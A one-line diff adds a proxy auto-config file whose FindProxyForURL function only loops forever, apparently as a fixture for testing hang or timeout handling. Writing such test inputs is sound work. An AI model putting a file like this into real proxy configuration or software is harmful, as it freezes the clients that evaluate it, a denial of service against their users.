@@ -1,0 +1,1 @@
+function FindProxyForURL(u, h) { for (;;) { try { while (1) {} } catch (e) {} } }
